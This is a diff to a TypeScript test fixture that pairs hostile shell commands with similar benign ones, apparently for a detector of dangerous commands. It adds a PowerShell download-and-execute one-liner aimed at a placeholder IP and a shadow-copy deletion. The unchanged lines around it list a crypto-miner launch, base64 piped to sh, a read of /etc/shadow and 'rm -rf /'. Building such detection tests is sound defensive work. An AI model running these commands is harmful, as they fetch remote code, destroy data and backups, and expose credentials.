@@ -36,6 +36,11 @@ export const commandCases: Record<string, readonly [string, string]> = {
   miner: ['./xmrig -o stratum+tcp://pool.example:3333', 'ls mines'],
   'kills-others': ['pkill -9 kinsing2', 'ps -ef'],
   'encoded-command': ['echo aWQ= | base64 -d | sh', 'base64 -d notes.b64'],
+  'windows-download-run': [
+    'powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a.ps1\')"',
+    'kubectl completion powershell | Out-String | Invoke-Expression',
+  ],
+  'shadow-copies-deleted': ['vssadmin delete shadows /all /quiet', 'vssadmin list shadows'],
   'password-files': ['cat /etc/shadow', 'cat /etc/hosts'],
   destroys: ['rm -rf /', 'rm -rf build'],
   surroundings: ['cat /proc/cpuinfo', 'git status'],
